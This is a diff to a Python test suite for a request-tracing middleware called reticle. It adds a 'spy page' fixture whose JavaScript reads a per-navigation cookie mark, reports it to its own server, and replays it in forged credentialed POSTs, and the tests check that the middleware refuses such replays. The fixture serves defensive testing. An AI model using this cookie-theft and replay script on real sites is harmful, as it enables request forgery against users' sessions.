@@ -269,6 +269,130 @@ def test_two_tabs_on_two_apps_see_only_their_own_records(tmp_path, daemon, mcp):
         fastapi_app.close()
 
 
+# -- a spy page on another port of the same host: reads the navigation's mark, replays it -------------
+
+SPY = """<!doctype html><html><head><title>Spy</title></head><body><iframe name="sink" sandbox></iframe><script>
+var VICTIM = '%s', seen = {};
+function replay(v) {
+  document.cookie = '__reticle_mark=' + v + '; path=/form; max-age=60';  // cookies ignore ports
+  for (var i = 0; i < 2; i++)
+    fetch(VICTIM + '/form', {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'name=mallory',
+                             headers: {'Content-Type': 'application/x-www-form-urlencoded'}}).catch(function () {});
+  var f = document.createElement('form');
+  f.method = 'post'; f.action = VICTIM + '/form'; f.target = 'sink';
+  var field = document.createElement('input');
+  field.name = 'name'; field.value = 'mallory';
+  f.appendChild(field); document.body.appendChild(f); f.submit(); f.remove();
+}
+setInterval(function () {
+  var m = /(?:^|; )__reticle_mark=([^;]+)/.exec(document.cookie);
+  if (!m || seen[m[1]]) return;
+  seen[m[1]] = true;
+  fetch('/seen?v=' + encodeURIComponent(m[1]));
+  [0, 150, 400, 900].forEach(function (ms) { setTimeout(function () { replay(m[1]); }, ms); });
+}, 5);
+</script></body></html>"""
+
+
+class SpyServer:
+    """The spy's own origin: 127.0.0.1 on another port, serving SPY at every path (at /form it
+    reads cookies scoped to the victim's /form), and noting each mark it read (GET /seen)."""
+
+    def __init__(self, victim):
+        import http.server
+        import threading
+        self.seen = []
+        spy = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):
+                if self.path.startswith("/seen?v="):
+                    spy.seen.append(self.path)
+                body = (SPY % victim).encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args):
+                pass
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
+        self.url = "http://127.0.0.1:%d" % self.server.server_address[1]
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def devtools_port(browser):
+    try:
+        with open(os.path.join(browser.profile, "DevToolsActivePort")) as fh:
+            return fh.read().split()
+    except OSError:
+        return None
+
+
+BLANK = dict(WRITE, urlContains="/form")
+UNTHROTTLED = ("--disable-background-timer-throttling", "--disable-renderer-backgrounding",
+               "--disable-backgrounding-occluded-windows")
+
+
+@pytest.mark.parametrize("framework", FRAMEWORKS)
+def test_a_spy_page_on_another_port_plants_no_server_record(framework, tmp_path, daemon, mcp):
+    app = App(framework, tmp_path, daemon)
+    spy = SpyServer(app.url)
+    browser = None
+    try:
+        before = {s["sessionId"] for s in mcp.ok("reticle_sessions")["sessions"]}
+        # two tabs of one browser (one cookie jar): the victim app, and the spy's page opened beside it
+        browser = Browser(app.url + "/", extra_args=UNTHROTTLED)
+        devtools = wait_until(lambda: devtools_port(browser), 20, what="Chromium's DevTools port")
+        urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:%s/json/new?%s/form" % (
+            devtools[0], spy.url), method="PUT"), timeout=10).close()
+        sid = wait_until(lambda: [s["sessionId"] for s in mcp.ok("reticle_sessions")["sessions"]
+                                  if s["sessionId"] not in before and s["url"].startswith(app.url)],
+                         20, what="the tab to connect")[0]
+        act(mcp, sid, "Save", dict(WRITE, urlContains="/api/save"))  # the middleware is known to this tab
+        rows = app.rows()
+        # the empty save the server refused: the spy reads its mark and posts a real write with it
+        out = act(mcp, sid, "Send blank", BLANK)
+        wait_until(lambda: spy.seen and app.rows() > rows, 15, what="the spy to replay the mark")
+        time.sleep(2.5)  # the spy's last replays and their records
+        assert out["verified"] != "yes", out
+        again = mcp.ok("reticle_assert", {"predicate": BLANK, "since": out["since"], "sessionId": sid,
+                                          "detail": "full"})
+        assert again["verified"] != "yes", again
+        records = [e["data"] for e in mcp.ok("reticle_observe", {"since": 0, "filters": ["server"],
+                                                                  "max_events": 2000, "sessionId": sid})["events"]]
+        posts = [r for r in records if r["method"] == "POST" and r["path"] == "/form"]
+        assert [(r["status"], len(r["writes"])) for r in posts] == [(303, 0)], posts  # the victim's own, only
+        # the healthy path, with the spy still replaying every mark it reads
+        out = act(mcp, sid, "Save", dict(WRITE, urlContains="/api/save"))
+        assert out["verified"] == "yes", out
+        out = act(mcp, sid, "Save (xhr)", dict(WRITE, urlContains="/api/save"))
+        assert out["verified"] == "yes", out
+        time.sleep(1.5)  # the spy's replays of the old mark are done: it could only void the next one
+        out = act(mcp, sid, "Post form", {"kind": "allOf", "predicates": [
+            {"kind": "server", "method": "POST", "urlContains": "/form", "status": 303,
+             "writes": {"table": "profile", "op": "insert", "count": 1}},
+            {"kind": "server", "method": "GET", "urlContains": "/done", "status": 200}]})
+        assert out["verified"] == "yes", (out["because"], out.get("server"))
+        time.sleep(2.0)
+        records = [e["data"] for e in mcp.ok("reticle_observe", {"since": 0, "filters": ["server"],
+                                                                  "max_events": 2000, "sessionId": sid})["events"]]
+        posts = [r for r in records if r["method"] == "POST" and r["path"] == "/form"]
+        assert [(r["status"], len(r["writes"])) for r in posts] == [(303, 0), (303, 1)], posts
+        assert len(spy.seen) >= 2, spy.seen
+    finally:
+        if browser is not None:
+            browser.close()
+        spy.close()
+        app.close()
+
+
 # -- the middleware with no daemon, and the daemon's route ------------------------------------------
 
 def plain_wsgi_app(environ, start_response):
@@ -297,6 +421,70 @@ def test_the_app_runs_normally_with_no_daemon(tmp_path, monkeypatch):
     assert statuses == ["200 OK"] * 4
     wait_until(lambda: app.reticle_reporter.dropped_total >= 3, 10, what="the records to be dropped")
     assert "did not answer" in app.reticle_reporter.last_error
+
+
+def redirecting_wsgi_app(environ, start_response):
+    start_response("303 See Other", [("Location", environ["HTTP_X_TO"])])
+    return [b""]
+
+
+async def redirecting_asgi_app(scope, receive, send):
+    to = dict(scope["headers"])[b"x-to"]
+    await send({"type": "http.response.start", "status": 303, "headers": [(b"location", to)]})
+    await send({"type": "http.response.body", "body": b""})
+
+
+def asgi_call(app, headers):
+    sent = []
+
+    async def receive():
+        return {"type": "http.request", "body": b""}
+
+    async def send(message):
+        sent.append(message)
+    scope = {"type": "http", "method": "POST", "path": "/form", "headers": [
+        (k.lower().encode(), v.encode()) for k, v in headers.items()]}
+    asyncio.run(app(scope, receive, send))
+    return [(k.decode(), v.decode()) for k, v in sent[0]["headers"]]
+
+
+def test_the_middleware_names_the_sender_and_carries_a_navigations_mark_across_its_redirect():
+    """Who sent a marked request as the browser says (Sec-Fetch-Site; else Origin, else Referer's
+    origin) goes into its record; a navigation marked by cookie that redirects on its own host gets
+    its mark again in an HttpOnly cookie scoped to where it leads, any other answer to it removes
+    the spent mark; a header mark sets no cookie."""
+    mark = "%032x" % 5
+    wsgi_app, asgi_app = reticle.wsgi(redirecting_wsgi_app), reticle.asgi(redirecting_asgi_app)
+    records = []
+    wsgi_app.reticle_reporter.put = records.append
+    asgi_app.reticle_reporter.put = records.append
+
+    def wsgi_call(headers):
+        got = []
+        env = environ(**headers)
+        env["PATH_INFO"] = "/form"
+        b"".join(wsgi_app(env, lambda status, hs: got.extend(hs)))
+        return got
+    cookie = "sid=1; __reticle_mark=" + mark
+    for call in (wsgi_call, lambda h: asgi_call(asgi_app, h)):
+        del records[:]
+        out = call({"Host": "127.0.0.1:1", "Cookie": cookie, "Sec-Fetch-Site": "same-origin", "X-To": "/done?x=1"})
+        assert ("Set-Cookie", "__reticle_mark=%s; Path=/done; Max-Age=10; SameSite=Strict; HttpOnly" % mark) in [
+            (k.title(), v) for k, v in out], out
+        assert records[-1]["site"] == "same-origin" and records[-1]["via"] == "cookie"
+        out = call({"Host": "127.0.0.1:1", "Cookie": cookie, "Referer": "http://127.0.0.1:9/spy?q=1",
+                    "X-To": "http://127.0.0.1:1/a;b/c"})
+        assert ("Set-Cookie", "__reticle_mark=%s; Path=/; Max-Age=10; SameSite=Strict; HttpOnly" % mark) in [
+            (k.title(), v) for k, v in out], out  # a path a cookie attribute could misread: the root
+        assert (records[-1]["site"], records[-1]["from"]) == (None, "http://127.0.0.1:9")
+        # a redirect to another host, or any other answer: the spent mark is removed from the request's path
+        out = call({"Host": "127.0.0.1:1", "Cookie": cookie, "X-To": "http://127.0.0.1:2/done"})
+        assert [v for k, v in out if k.lower() == "set-cookie"] == [
+            "__reticle_mark=; Path=/form; Max-Age=0; SameSite=Strict"], out
+        # a header mark sets no cookie
+        out = call({"Host": "127.0.0.1:1", "X-Reticle-Mark": mark, "X-To": "/done", "Origin": "http://127.0.0.1:1"})
+        assert not [k for k, _ in out if k.lower() == "set-cookie"], out
+        assert records[-1]["from"] == "http://127.0.0.1:1" and len(records) == 4
 
 
 def test_a_real_app_with_no_daemon_serves_and_writes(tmp_path):
@@ -335,7 +523,7 @@ def test_records_from_a_process_that_cannot_authenticate_are_refused(daemon):
     status, body = post_records(daemon, {"records": "nope"}, token=daemon.token())
     assert status == 400 and "records" in body["detail"], body
     status, body = post_records(daemon, {"records": [rec, {"mark": "bad"}]}, token=daemon.token())
-    assert status == 200 and body == {"stitched": 0, "unmatched": 1, "invalid": 1}, body
+    assert status == 200 and body == {"stitched": 0, "unmatched": 1, "invalid": 1, "refused": 0}, body
     assert daemon.status()["running"] is True
 
 
@@ -483,9 +671,9 @@ def test_a_server_failure_the_predicate_asks_for_is_no_contradiction(pred, contr
 
 def test_a_background_request_that_logs_is_not_the_acts_failure():
     logged = dict(record(path="/api/poll", logged=[{"logger": "app", "level": "ERROR", "message": "x"}]),
-                  documentId="d1", requestId="n7")
-    events = [{"t": 0.0, "type": "net.pending", "doc": "d1",
-               "data": {"requestId": "n7", "method": "POST", "url": "http://127.0.0.1:1/api/poll"}},
+                  documentId="d1", requestId="m7")  # the id the daemon issued with the request's mark
+    events = [{"t": 0.0, "type": "net.pending", "doc": "d1", "data": {
+        "requestId": "n7", "serverMark": "m7", "method": "POST", "url": "http://127.0.0.1:1/api/poll"}},
               {"t": 1.0, "type": "server.request", "data": logged}]
     text = {"kind": "text", "contains": "Saved"}
     assert len(reticle._server_contradictions(events, text)) == 1
@@ -519,13 +707,13 @@ class MarkTest(AsyncHTTPTestCase):
         self.hub = reticle.Hub(state_dir=self.state.name, port=0, token=self.TOKEN)
         return reticle.make_app(self.hub)
 
-    async def tab(self, sid, mark=True):
+    async def tab(self, sid, mark=True, doc="doc1"):
         req = tornado.httpclient.HTTPRequest("ws://127.0.0.1:%d/reticle" % self.get_http_port(),
                                              headers={"Origin": "http://localhost:5173"})
         conn = await tornado.websocket.websocket_connect(req)
         self.sockets.append(conn)
         hello = {"kind": "hello", "protocolVersion": 1, "sessionId": sid, "url": "http://localhost:5173/",
-                 "title": "t", "adapters": []}
+                 "title": "t", "adapters": [], "documentId": doc}
         if mark:
             hello["serverMark"] = True
         await conn.write_message(json.dumps(hello))
@@ -543,25 +731,70 @@ class MarkTest(AsyncHTTPTestCase):
         a, b = await self.tab("s-a"), await self.tab("s-b")
         mark_a = json.loads(await a.read_message())
         mark_b = json.loads(await b.read_message())
-        assert mark_a["kind"] == "mark" and mark_a["header"] == "X-Reticle-Mark"
-        assert mark_a["mark"] != mark_b["mark"] and len(mark_a["mark"]) == 32
+        assert mark_a["kind"] == "mark" and mark_a["header"] == "X-Reticle-Mark" and mark_a["reset"] is True
+        (id_a, secret_a), (_, secret_b) = mark_a["marks"][0], mark_b["marks"][0]
+        assert secret_a != secret_b and len(secret_a) == 32
         rec = {"method": "POST", "path": "/api/save", "status": 200, "host": "localhost:5173", "via": "header"}
-        code, body = await self.post([dict(rec, mark=mark_a["mark"] + ".doc1.n3"),
-                                      dict(rec, mark=mark_b["mark"], path="/b"),
+        # the ids a sender appends are ignored: a record lands under the document and id the mark was issued for
+        code, body = await self.post([dict(rec, mark=secret_a + ".otherdoc.n3"),
+                                      dict(rec, mark=secret_b, path="/b"),
                                       dict(rec, mark="%032x" % 9)])
-        assert (code, body) == (200, {"stitched": 2, "unmatched": 1, "invalid": 0})
+        assert (code, body) == (200, {"stitched": 2, "unmatched": 1, "invalid": 0, "refused": 0})
         sa, sb = self.hub.bridge.get("s-a"), self.hub.bridge.get("s-b")
         got_a = reticle._server_records(sa.window(0))
-        assert [(r["path"], r["documentId"], r["requestId"]) for r in got_a] == [("/api/save", "doc1", "n3")]
+        assert [(r["path"], r["documentId"], r["requestId"]) for r in got_a] == [("/api/save", "doc1", id_a)]
         assert [r["path"] for r in reticle._server_records(sb.window(0))] == ["/b"]
 
     @gen_test
     async def test_a_cookie_mark_counts_only_from_the_tabs_own_origin(self):
         a = await self.tab("s-c")
-        mark = json.loads(await a.read_message())["mark"]
-        rec = {"method": "GET", "path": "/done", "status": 200, "via": "cookie", "mark": mark}
+        marks = json.loads(await a.read_message())["marks"]
+        rec = {"method": "GET", "path": "/done", "status": 200, "via": "cookie", "site": "same-origin",
+               "mark": marks[0][1]}
         code, body = await self.post([dict(rec, host="127.0.0.1:9999"), dict(rec, host="LOCALHOST:5173")])
-        assert body == {"stitched": 1, "unmatched": 1, "invalid": 0}, body
+        assert body == {"stitched": 1, "unmatched": 0, "invalid": 0, "refused": 1}, body
+
+    @gen_test
+    async def test_a_mark_counts_once_only_from_the_tabs_own_document_and_changes_with_it(self):
+        a = await self.tab("s-f")
+        first = json.loads(await a.read_message())
+        secrets_ = [m[1] for m in first["marks"]]
+        assert len(set(secrets_)) == len(secrets_) == reticle.SERVER_TICKETS
+        rec = {"method": "POST", "path": "/form", "status": 200, "host": "localhost:5173", "via": "cookie"}
+        code, body = await self.post([
+            # another port of the same host replayed it: the browser says same-site, or names that origin
+            dict(rec, mark=secrets_[0], site="same-site"), dict(rec, mark=secrets_[0], site="cross-site"),
+            dict(rec, mark=secrets_[0], **{"from": "http://localhost:9999"}),
+            dict(rec, mark=secrets_[0], **{"from": "null"}),
+            dict(rec, mark=secrets_[0]),  # a cookie mark whose sender nobody names
+            dict(rec, mark=secrets_[0], site="same-origin"),  # the tab's own navigation: taken
+            dict(rec, mark=secrets_[0], site="same-origin"),  # and only once
+            dict(rec, mark=secrets_[1], via="header", **{"from": "http://localhost:5173"}),
+            dict(rec, mark=secrets_[2], via="header")])  # a header no other origin can read or send
+        assert body == {"stitched": 3, "unmatched": 1, "invalid": 0, "refused": 5}, body
+        assert "POST /form" in self.hub.server_truth["lastRefused"], self.hub.server_truth
+        # a navigation that redirects: its mark is good once more, for the request the redirect leads to
+        code, body = await self.post([dict(rec, mark=secrets_[4], site="same-origin", status=303),
+                                      dict(rec, mark=secrets_[4], site="same-origin", method="GET", path="/done"),
+                                      dict(rec, mark=secrets_[4], site="same-origin", method="GET", path="/x")])
+        assert body == {"stitched": 2, "unmatched": 1, "invalid": 0, "refused": 0}, body
+        # a page asks for more, for its own document only
+        await a.write_message(json.dumps({"kind": "marks"}))
+        more = json.loads(await a.read_message())
+        assert more["reset"] is False and not {m[1] for m in more["marks"]} & set(secrets_)
+        # a new document gets new marks; the old document's are void once SERVER_TICKET_AFTER_MS pass
+        b = await self.tab("s-f", doc="doc2")
+        fresh = json.loads(await b.read_message())
+        assert not {m[1] for m in fresh["marks"]} & set(secrets_)
+        session = self.hub.bridge.get("s-f")
+        now = session.clock()
+        session.clock = lambda: now + reticle.SERVER_TICKET_AFTER_MS + 1
+        self.hub.clock = session.clock
+        code, body = await self.post([dict(rec, mark=secrets_[3], site="same-origin"),
+                                      dict(rec, mark=fresh["marks"][0][1], site="same-origin")])
+        assert body == {"stitched": 1, "unmatched": 1, "invalid": 0, "refused": 0}, body
+        got = reticle._server_records(session.window(0))
+        assert [(r["documentId"], r["requestId"]) for r in got][-1] == ("doc2", fresh["marks"][0][0])
 
     @gen_test
     async def test_a_page_cannot_write_server_records_through_its_socket(self):
